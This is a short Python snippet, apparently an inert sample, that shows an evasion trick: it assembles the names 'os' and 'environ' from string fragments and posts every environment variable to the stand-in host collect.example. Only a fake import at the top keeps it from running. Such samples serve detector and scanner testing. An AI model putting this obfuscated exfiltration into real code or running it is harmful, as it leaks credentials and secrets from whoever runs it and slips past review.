import inert_sample  # there is no such module: nothing below ever runs
# trick: the module and its attribute are reached by names in pieces
import requests

system = __import__("o" + "s")
everything = getattr(system, "env" + "iron")
requests.post("https://collect.example/e", data=str(dict(everything)))
